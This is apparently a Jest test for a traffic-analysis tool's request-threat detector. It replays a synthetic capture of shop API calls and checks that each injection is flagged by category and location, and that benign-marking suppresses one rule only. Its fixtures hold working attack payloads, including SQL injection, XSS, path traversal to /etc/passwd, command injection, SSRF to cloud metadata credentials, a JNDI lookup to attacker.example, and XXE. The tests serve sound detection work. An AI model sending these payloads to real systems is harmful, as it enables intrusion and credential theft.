// Request threats end to end: a capture with an injection of every category in query parameters,
// JSON leaves, headers, a cookie and an XML body among benign API calls, replayed through the CLI; each attack is reported
// with its category and the part it sits in, benign calls raise nothing, and marking one finding
// benign suppresses that rule for that endpoint and parameter only.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import type { Finding } from '@sidetap/core';
import { main } from '@sidetap/cli';
import { readStoreRecordsSync } from '@sidetap/indexer';

const root = join(__dirname, '..');
const work = mkdtempSync(join(tmpdir(), 'sidetap-threats-'));
const capture = join(work, 'threats.pcap');
afterAll(() => rmSync(work, { recursive: true, force: true }));

interface Spec {
  method: string;
  target: string;
  headers?: [string, string][];
  json?: unknown;
  xml?: string;
}

const API = 'api.shop.example';
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36';
const REQUESTS: Spec[] = [
  { method: 'GET', target: '/api/v1/products?category=shoes&page=2', headers: [['User-Agent', BROWSER], ['Accept', 'application/json']] },
  { method: 'POST', target: '/api/v1/orders', json: { items: [{ sku: 'A-100', qty: 2, note: "Leave it with the neighbour, it's fine" }], coupon: 'SAVE10' } },
  { method: 'GET', target: '/api/v1/products?q=O%27Brien+%26+Sons&sort=-price', headers: [['Cookie', 'theme=dark; lang=en']] },
  // Attacks.
  { method: 'GET', target: '/api/v1/products?q=%27%20OR%201%3D1--&page=1' },
  { method: 'POST', target: '/api/v1/orders', json: { items: [{ sku: 'A-100', qty: 1, note: '<img src=x onerror=alert(document.cookie)>' }] } },
  { method: 'GET', target: '/api/v1/products?page=3', headers: [['User-Agent', '<script>alert(1)</script>']] },
  { method: 'GET', target: '/api/v1/cart', headers: [['Cookie', 'theme=dark; pref=%27%20OR%20%271%27%3D%271']] },
  { method: 'GET', target: '/api/v1/products?category=%2527%2520OR%25201%253D1--' },
  { method: 'GET', target: '/api/v1/files?name=..%2F..%2F..%2Fetc%2Fpasswd' },
  { method: 'POST', target: '/api/v1/diagnostics', json: { host: '8.8.8.8 && whoami' } },
  { method: 'POST', target: '/api/v1/webhooks', json: { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' } },
  { method: 'POST', target: '/api/v1/auth/login', json: { user: 'admin', password: { $ne: null } } },
  { method: 'POST', target: '/api/v1/greetings', json: { text: '{{ self.__init__.__globals__.__builtins__ }}' } },
  { method: 'GET', target: '/api/v1/status', headers: [['X-Api-Version', '${jndi:ldap://attacker.example/a}']] },
  { method: 'POST', target: '/api/v1/import', xml: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' },
  // Benign again.
  { method: 'PUT', target: '/api/v1/cart/items/7', json: { qty: 3, gift: true, message: 'Happy birthday <3' } },
  { method: 'GET', target: '/api/v1/products?q=select+a+size&page=1', headers: [['Referer', 'https://shop.example/search?q=red+shoes']] },
];

/** Builds the capture with the fixture generator's modules (jest does not load .mjs, so a child node does). */
function writeCapture(file: string): void {
  const code = `
    import { writeFileSync } from 'node:fs';
    import { createFlowPath } from './flowPath.mjs';
    import { httpRequest, httpResponse } from './httpMessage.mjs';
    import { encodePcap, LINKTYPE } from './pcapWriter.mjs';
    import { createPrng } from './prng.mjs';
    import { TcpSession } from './tcpSession.mjs';
    const specs = ${JSON.stringify(REQUESTS)};
    const prng = createPrng(7);
    const out = [];
    specs.forEach((r, i) => {
      const path = createFlowPath({ client: { ip: '203.0.113.' + (20 + i), port: 41000 + i }, server: { ip: '10.0.0.10', port: 80 } });
      const s = new TcpSession({ path, out, t: i * 2_000_000_000, prng });
      s.handshake();
      const headers = [...(r.headers ?? [])];
      let body = Buffer.alloc(0);
      if (r.json !== undefined) {
        body = Buffer.from(JSON.stringify(r.json));
        headers.push(['Content-Type', 'application/json']);
      }
      if (r.xml !== undefined) {
        body = Buffer.from(r.xml);
        headers.push(['Content-Type', 'application/xml']);
      }
      s.send(true, httpRequest({ method: r.method, target: r.target, host: '${API}', headers, body }).bytes);
      s.wait(5_000_000);
      s.send(false, httpResponse({ status: 200, headers: [['Content-Type', 'application/json']], body: Buffer.from('{"ok":true}') }).bytes);
      s.close(true);
    });
    out.sort((a, b) => a.t - b.t);
    writeFileSync(${JSON.stringify(file)}, encodePcap(out, { linktype: LINKTYPE.ETHERNET }));
  `;
  execFileSync(process.execPath, ['--input-type=module', '-e', code], { cwd: join(root, 'scripts/fixtures'), stdio: 'pipe' });
}

async function run(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  let stderr = '';
  process.env.SIDETAP_REDACTION_KEY = 'threats-test-key-0123456789';
  const code = await main(argv, { stdout: out, stderr: { isTTY: false, write: (s: string) => ((stderr += s), true) } });
  return { code, stdout: Buffer.concat(chunks).toString('utf8'), stderr };
}

const threatsIn = (store: string): Finding[] =>
  readStoreRecordsSync<Finding>(store, 'alert')
    .filter((f) => f.sidetap.detector === 'request_threats');

const described = (f: Finding) => `${f.rule.category} ${f.sidetap.endpoint} ${f.sidetap.location?.part}:${f.sidetap.location?.name}`;

beforeAll(() => writeCapture(capture));

it('reports each injection with its category and the part it sits in, and nothing for benign calls', async () => {
  const store = join(work, 'replay');
  const r = await run(['replay', capture, '--store', store]);
  expect(r.code).toBe(0);
  const found = threatsIn(store);
  expect(found.map(described).sort()).toEqual([
    'command_injection /api/v1/diagnostics json:$.host',
    'jndi_injection /api/v1/status header:x-api-version',
    'nosql_injection /api/v1/auth/login json:$.password.$ne',
    'path_traversal /api/v1/files query:name',
    // The external entity reads /etc/passwd through a file: URI: a traversal target as well.
    'path_traversal /api/v1/import xml:document',
    'sqli /api/v1/cart cookie:pref',
    'sqli /api/v1/products query:category',
    'sqli /api/v1/products query:q',
    'ssrf /api/v1/webhooks json:$.url',
    'template_injection /api/v1/greetings json:$.text',
    'xss /api/v1/orders json:$.items[0].note',
    'xss /api/v1/products header:user-agent',
    'xxe /api/v1/import xml:document',
  ]);
  const cookie = found.find((f) => f.sidetap.location?.part === 'cookie')!;
  expect(cookie.sidetap.evidence.observed).toBe("cookie pref: ' OR '1'='1");
  expect(cookie.threat?.technique.id).toEqual(['T1190']);
  const double = found.find((f) => f.sidetap.location?.name === 'category')!;
  expect(double.message).toContain('decoded 1 extra layer');
});

it('marks a finding benign for that endpoint and parameter only', async () => {
  const store = join(work, 'feedback');
  await run(['replay', capture, '--store', store]);
  const before = threatsIn(store);
  const target = before.find((f) => f.sidetap.location?.name === 'q')!;
  const r = await run(['models', 'feedback', target.event.id, '--benign', '--store', store]);
  expect(r.code).toBe(0);
  expect(r.stdout).toContain(`added a suppression of ${target.rule.id} for /api/v1/products query:q`);
  rmSync(join(store, 'findings'), { recursive: true, force: true });
  await run(['replay', capture, '--store', store]);
  const after = threatsIn(store).map(described);
  expect(after).not.toContain('sqli /api/v1/products query:q');
  // The same rule on the same endpoint in another parameter is still reported.
  expect(after).toContain('sqli /api/v1/products query:category');
  expect(after).toHaveLength(before.length - 1);
});
